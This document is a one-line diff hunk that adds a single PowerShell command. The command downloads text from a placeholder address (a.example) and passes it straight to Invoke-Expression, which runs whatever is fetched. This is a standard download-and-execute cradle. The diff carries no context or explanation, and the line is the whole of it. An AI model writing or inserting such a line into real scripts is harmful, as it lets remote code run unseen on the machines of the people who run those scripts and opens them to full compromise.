@@ -1,0 +1,1 @@
+(New-Object IO.StreamReader((New-Object Net.WebClient).OpenRead('http://a.example/x'))).ReadToEnd()|iex
